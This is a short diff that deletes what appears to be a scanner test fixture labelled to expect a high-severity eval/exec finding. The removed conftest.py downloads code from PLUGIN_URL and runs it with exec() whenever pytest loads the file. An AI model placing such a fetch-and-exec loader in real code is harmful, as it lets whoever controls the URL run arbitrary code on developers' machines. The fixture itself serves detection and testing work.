@@ -1,8 +1,0 @@
-# expect: python.eval_exec high
-# path: conftest.py
-"""module docstring"""
-
-import requests
-
-code = requests.get(PLUGIN_URL, timeout=5).text
-exec(code)
